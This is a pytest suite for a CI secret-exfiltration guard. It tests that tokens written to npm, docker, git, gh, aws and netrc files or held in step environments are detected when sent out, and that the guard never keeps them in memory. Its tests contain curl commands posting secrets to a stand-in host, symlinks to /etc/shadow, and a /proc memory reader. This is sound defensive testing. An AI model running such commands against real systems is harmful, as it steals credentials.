"""Secrets of a guarded job that nobody named: files that steps write, environments of steps. And none in the guard's memory."""

from __future__ import annotations

import base64
import json
import secrets
import shlex
import time

import pytest

from tests.job.guarded import Job
from tests.machine import Machine
from tests.machine.runner import CHECKOUT, HOME, WORK
from tests.world.internet import API

pytestmark = pytest.mark.root
APIS = (API, "2001:db8::10")
TEMP = f"{WORK}/_temp"
CONTEXT = {
    "GITHUB_WORKSPACE": CHECKOUT,
    "RUNNER_TEMP": TEMP,
    "GITHUB_REPOSITORY": "octo/demo",
    "GITHUB_SHA": secrets.token_hex(20),
}


class CredentialJob(Job):
    """A job whose runner says where its directories are."""

    def document(self) -> dict:
        return {**super().document(), "github": CONTEXT}

    def leaks(self) -> dict[str, str]:
        report = self.verdict().report
        return {one["secret"]: one["place"] for one in report["incidents"] if one["kind"] == "exfiltration"}

    def post(self, value: str, **options) -> int:
        """Try to send a value, from a process in whose environment it is not. curl's exit code."""
        command = ["sh", "-c", "curl -sS -o /dev/null --data-binary @- https://api.example.com/collect"]
        return self.step(command, input=value.encode(), **options).code


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


WRITTEN = {
    "npm": (f"{HOME}/.npmrc", "//registry.npmjs.org/:_authToken={0}\n", "npmrc (_authToken)"),
    "npm, by setup-node": (f"{TEMP}/.npmrc", "//registry.npmjs.org/:_authToken={0}\n", "npmrc (_authToken)"),
    "docker": (f"{HOME}/.docker/config.json", '{{"auths": {{"ghcr.io": {{"auth": "{2}"}}}}}}', "docker (auth)"),
    "gh": (f"{HOME}/.config/gh/hosts.yml", "github.com:\n    oauth_token: {0}\n", "gh (oauth_token)"),
    "git": (f"{CHECKOUT}/.git/config", '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {2}\n', "git config (extraheader)"),
    "git, in a checkout below": (f"{CHECKOUT}/other/.git/config", '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {2}\n', "git config (extraheader)"),
    "git, by checkout v6": (f"{TEMP}/git-credentials-0f8fad5b-d9cb-469f-a165-70867728950e.config", '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {2}\n', "checkout (extraheader)"),
    "aws": (f"{HOME}/.aws/credentials", "[default]\naws_secret_access_key = {0}\n", "aws (aws_secret_access_key)"),
    "root's": ("/root/.netrc", "machine api.example.org password {0}\n", "netrc (password)"),
}  # fmt: skip


@pytest.mark.parametrize("kind", WRITTEN)
def test_a_file_that_a_step_writes(machine: Machine, secret: str, kind: str) -> None:
    path, text, name = WRITTEN[kind]
    content = text.format(secret, b64(secret), b64(f"bob:{secret}"))
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        assert job.post(secret) == 0  # nobody knows it yet
        user = "root" if path.startswith("/root") else "runner"
        write = f'mkdir -p "$(dirname {path})" && cat > {path}'
        assert job.step(["sh", "-c", write], input=content.encode(), user=user).code == 0
        machine.world.forget()
        job.post(f"{{{secret}}}")
        assert secret.encode() not in machine.world.received(*APIS)
        assert job.leaks() == {name: "body"}


def test_a_file_is_known_within_a_second(machine: Machine, secret: str) -> None:
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        sender = 'while read -r value; do curl -s -o /dev/null -w "%{http_code}\\n" -d "$value" https://api.example.com/; done'
        write = f'echo "//registry.npmjs.org/:_authToken={secret}" > {HOME}/.npmrc'
        job.step(["sh", "-c", write])
        written = time.monotonic()
        statuses = job.step(["sh", "-c", sender], input=f"{secret}\n".encode()).stdout.split()
        assert statuses == ["403"]
        assert time.monotonic() - written < 10  # a fail-safe; the first request after the write was cut


def test_moved_in_linked_and_replaced(machine: Machine, secret: str) -> None:
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        script = f"""
            mkdir {HOME}/made && echo '{{"auths": {{"ghcr.io": {{"password": "{secret}"}}}}}}' > {HOME}/made/config.json
            mv {HOME}/made {HOME}/.docker
            ln -s /etc/shadow {HOME}/.pypirc; mkfifo {HOME}/.netrc; mkdir {HOME}/.gitconfig; ln -s /dev/zero {HOME}/.npmrc
            head -c 3000000 /dev/zero > {HOME}/.vault-token; mkdir -p {HOME}/.aws; ln -s /root/secret-token {HOME}/.aws/credentials
            ln -s /root/.kube {HOME}/.kube
        """
        assert job.step(["sh", "-c", script]).code == 0
        job.post(secret)
        assert job.leaks() == {"docker (password)": "body"}
        assert job.events("Defect", "Tampering") == []


def test_the_warden_reads_nothing_for_the_job_that_the_job_may_not_read(machine: Machine, secret: str) -> None:
    """Through a linked directory the file's name is right; it is opened as the runner, so the kernel refuses."""
    machine.write("/root/.aws-real/credentials", f"[default]\naws_secret_access_key = {secret}\n", user="root")
    machine.run(["chmod", "-R", "go=", "/root/.aws-real"], user="root")
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        assert job.step(["ln", "-s", "/root/.aws-real", f"{HOME}/.aws"]).code == 0
        assert job.step(["touch", f"{HOME}/.npmrc"]).code == 0
        assert job.post(secret) == 0
        assert job.leaks() == {}


def test_the_environment_of_a_step(machine: Machine, secret: str) -> None:
    """``env: NPM_TOKEN``: the process that connects has it not, its step has."""
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        command = ["bash", "-c", 'env -u NPM_TOKEN -u HIDDEN curl -s -d "$HIDDEN" https://api.example.com/; true']
        job.step(command, env={"NPM_TOKEN": secret, "HIDDEN": secret, "CACHE_TOKEN": CONTEXT["GITHUB_SHA"]})
        assert secret.encode() not in machine.world.received(*APIS)
        assert job.leaks() == {"NPM_TOKEN": "body"}
        assert job.post(CONTEXT["GITHUB_SHA"]) == 0


def test_actions_inputs_and_gits_configuration_in_variables(machine: Machine, secret: str) -> None:
    other = secrets.token_hex(20)
    environment = {
        "INPUT_GITHUB-TOKEN": secret,
        "INPUT_KEY": f"linux-{other}",
        "GIT_CONFIG_VALUE_0": f"AUTHORIZATION: basic {b64('x:' + other)}",
    }
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        send = "; ".join(
            f"curl -s -d {shlex.quote(value)} https://api.example.com/" for value in (secret, other, f"linux-{other}"[:24])
        )
        inputs = [f"{name}={value}" for name, value in environment.items()]
        job.step(["env", *inputs, "bash", "-c", send + "; true"])
        assert job.leaks() == {"GITHUB_TOKEN": "body", "GIT_CONFIG_VALUE_0 (password)": "body"}


def test_a_gates_successor_is_told_again(machine: Machine, secret: str) -> None:
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail", on_blocked="warn") as job:
        job.step(["sh", "-c", f'echo "//registry.npmjs.org/:_authToken={secret}" > {HOME}/.npmrc'])
        before = job.status()["gate"]
        machine.run(["kill", "-9", str(before)], user="root")
        deadline = time.monotonic() + 60
        while job.status()["gate"] in (0, before) or not job.events("GateReplaced"):
            assert time.monotonic() < deadline
        job.post(secret)
        assert secret.encode() not in machine.world.received(*APIS)
        assert "npmrc (_authToken)" in job.leaks()


def memory_of(pid: int) -> bytes:
    """Every byte that a process has in memory, as root sees it."""
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(one, 16) for one in line.split()[0].split("-"))
            if "r" in line.split()[1] and not line.rstrip().endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                try:
                    memory.seek(start)
                    found.append(memory.read(end - start))
                except (OSError, ValueError):
                    continue
    return b"".join(found)


def core_limit(pid: int) -> str:
    with open(f"/proc/{pid}/limits") as file:
        return next(line.split()[4] for line in file if line.startswith("Max core file size"))


def test_no_value_in_the_wardens_memory_or_in_anything_written(machine: Machine) -> None:
    """Given, written to a file, in a step's environment, leaked: the gate has them, the warden never had. (What stands on a
    command line it reads as everybody on the machine can.)
    """
    given, in_file, in_step = (f"tok_{secrets.token_hex(20)}" for _ in range(3))
    with CredentialJob(machine, secrets={"DEPLOY_TOKEN": given}, allow="api.example.com", on_exfiltration="fail") as job:
        job.step(
            ["sh", "-c", f"read -r value; echo //registry.npmjs.org/:_authToken=$value > {HOME}/.npmrc"],
            input=in_file.encode() + b"\n",
        )
        send = 'printf %s "$STEP_TOKEN" | curl -s -d @- https://api.example.com/; curl -s -d @- https://api.example.com/'
        for _ in range(3):
            job.step(["bash", "-c", send], env={"STEP_TOKEN": in_step}, input=f"{given} {in_file}".encode())
        verdict = job.verdict()
        assert set(job.leaks()) == {"STEP_TOKEN", "DEPLOY_TOKEN", "npmrc (_authToken)"}
        status = job.status()
        memory = {name: memory_of(status[name]) for name in ("warden", "gate")}
        for value in (given, in_file, in_step):
            raw = value.encode()
            assert raw in memory["gate"]
            assert raw not in memory["warden"], value
            assert raw.decode() not in json.dumps(job.events())
            assert raw.decode() not in json.dumps(verdict.report) + verdict.stdout + verdict.stderr
        assert [core_limit(status[name]) for name in ("warden", "gate")] == ["0", "0"]


@pytest.mark.parametrize(
    "broken", [{"warnings": 5}, {"secrets": {"A_TOKEN": 5}}, {"inputs": {"mode": "x"}}, {"policy": {"text": 3}}, {"runner": 7}]
)
def test_a_failed_start_shows_nothing_of_what_it_was_given(machine: Machine, secret: str, broken: dict) -> None:
    job = CredentialJob(machine, secrets={"DEPLOY_TOKEN": secret})
    job.runner = machine.popen(["sleep", "60"])
    failed = job.start({**job.document(), **broken})
    assert failed.code in (2, 3, 93), failed.stderr
    assert "Traceback" not in failed.stderr
    assert secret not in failed.stdout + failed.stderr
    assert machine.run(["ls", "/run/ebbgate"], user="root").code != 0


def test_a_value_on_a_command_line_is_hidden_in_what_the_warden_told_before_it_knew(machine: Machine, secret: str) -> None:
    with CredentialJob(machine, allow="api.example.com", on_exfiltration="fail") as job:
        job.step(["sh", "-c", f'ls -l {shlex.quote("/tmp/" + secret)}; echo "x=1" >> /etc/hosts'], user="root")
        tell = f"exec 3>>/etc/hosts; echo >&3; : {secret}; sleep 0.1"
        job.step(["sh", "-c", tell], user="root")
        job.step(
            ["sh", "-c", "read -r value; export LATE_TOKEN=$value; curl -s https://api.example.com/"],
            input=f"{secret}\n".encode(),
        )
        verdict = job.verdict()
        assert any(secret in json.dumps(one) for one in job.events("Notice"))  # the record of root's, from before
        assert secret not in json.dumps(verdict.report) + verdict.stdout + verdict.stderr
